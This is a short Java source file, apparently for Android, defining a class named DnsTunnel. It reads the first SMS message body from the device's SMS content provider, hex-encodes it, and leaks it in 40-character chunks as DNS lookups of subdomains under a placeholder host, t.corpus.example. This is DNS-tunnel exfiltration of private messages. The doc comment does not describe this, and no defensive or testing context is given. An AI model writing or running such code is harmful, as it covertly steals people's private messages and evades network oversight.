package org.corpus;

import java.net.InetAddress;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;
import org.corpus.kit.Work;

/** A text, name by name. */
public class DnsTunnel extends Screen {
    @Override
    protected void act() throws Exception {
        String text = Owner.rows(this, "content://sms", "body").get(0);
        StringBuilder hex = new StringBuilder();
        for (byte one : Net.utf8(text)) {
            hex.append(String.format("%02x", one));
        }
        for (int at = 0, part = 0; at < hex.length(); at += 40, part++) {
            String piece = hex.substring(at, Math.min(at + 40, hex.length()));
            Work.attempt(() -> InetAddress.getAllByName(piece + ".t.corpus.example"));
        }
    }
}
